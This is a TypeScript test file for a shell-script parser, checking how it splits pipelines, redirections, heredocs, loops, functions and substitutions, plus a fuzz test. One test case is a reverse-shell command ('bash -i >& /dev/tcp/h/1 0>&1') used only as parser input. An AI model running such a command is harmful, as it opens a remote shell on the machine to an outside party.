// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the variables here are a shell's
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseScript } from "./parse-script.ts";
import type { Script } from "./script.ts";

/** A readable form: pipelines of commands, with groups in braces and substitutions in brackets. */
function shape(script: Script): unknown {
  return script.map((pipeline) =>
    pipeline
      .map(({ assignments, words, redirections, group, defines }) =>
        [
          ...(defines === undefined ? [] : [`${defines}()`]),
          ...assignments.map(({ name, value }) => `${name}:=${value.text}`),
          ...words.map(({ text }) => text),
          ...redirections.map(({ operator, target }) => `${operator} ${target.text}`),
          ...(group ? [`{${JSON.stringify(shape(group))}}`] : []),
        ].join(" "),
      )
      .join(" | "),
  );
}

describe("parseScript", () => {
  it.each([
    ["a b; c d", ["a b", "c d"]],
    ["a | b |& c", ["a | b | c"]],
    ["a && b || c & d", ["a", "b", "c", "d"]],
    ["# comment\na # another\nb#c", ["a", "b#c"]],
    [`echo 'a "b"' "c 'd' \\$e" f\\ g`, [`echo a "b" c 'd' $e f g`]],
    ["X=1 Y='2 3' cmd", ["X:=1 Y:=2 3 cmd"]],
    ["cmd >a 2>>b <c &>d 2>&1", ["cmd > a >> b < c > d >& 1"]],
    ["cat <<EOF | sh\na $B\nEOF\nnext", ["cat << a $B\n | sh", "next"]],
    ["cat <<-'E'\n\ta $B\n\tE\n", ["cat << \ta $B\n"]],
    ["if a; then b; else c; fi", ['{["a","b","c"]}']],
    ["for i in 1 2; do echo $i; done", ['{["for i in 1 2","echo $i"]}']],
    ["a | while read l; do b; done < c", ['a | < c {["read l","b"]}']],
    ["while a; do while b; do c; done; done; d", ['{["a","{[\\"b\\",\\"c\\"]}"]}', "d"]],
    ["f() { a; }; f", ['f() {["a"]}', "f"]],
    ["function f {\n  a\n}\nf", ['f() {["a"]}', "f"]],
    ["(a; b) | c", ['{["a","b"]} | c']],
    ["a \\\n  b", ["a b"]],
    ["a=(b $c)\nd+=(\n  e # f\n  g\n)\nlocal h=(i)", ["a:=b $c", "d:=e g", "local h=i"]],
    ["case x in y) a ;; esac; b", ['{["case x in y","a"]}', "b"]],
    ["bash -i >& /dev/tcp/h/1 0>&1", ["bash -i >& /dev/tcp/h/1 >& 1"]],
  ])("reads %j", (text, expected) => {
    expect(shape(parseScript(text))).toEqual(expected);
  });

  it("reads the scripts and variables inside of a word", () => {
    const [[command] = []] = parseScript('curl -d "$(cat `ls $A`) ${B:-x}" <(d)');
    const [, , data, file] = command?.words ?? [];
    expect(data?.variables).toEqual(["B"]);
    expect(shape(data?.substitutions[0] ?? [])).toEqual(["cat $(ls $A)"]);
    expect(shape(file?.substitutions[0] ?? [])).toEqual(["d"]);
  });

  it("takes a placeholder as a part of a word, whatever it says", () => {
    const [[command] = []] = parseScript("a x\uE000the file ~/.x | y\uE001z b");
    expect(command?.words.map(({ text }) => text)).toEqual([
      "a",
      "x\uE000the file ~/.x | y\uE001z",
      "b",
    ]);
  });

  it("ends for any text", () => {
    const piece = fc.constantFrom(
      ..."abc $ ( ) ` ' \" \\ | & ; < > { } # = \n <<E E\n $( ${ <( \uE000 \uE001".split(" "),
      " ",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        parseScript(pieces.join(""));
      }),
      { seed: 5, numRuns: 2_000 },
    );
    parseScript("$(".repeat(50_000));
    parseScript("(".repeat(50_000));
    parseScript("`".repeat(50_001));
    parseScript("while ".repeat(50_000));
  });
});
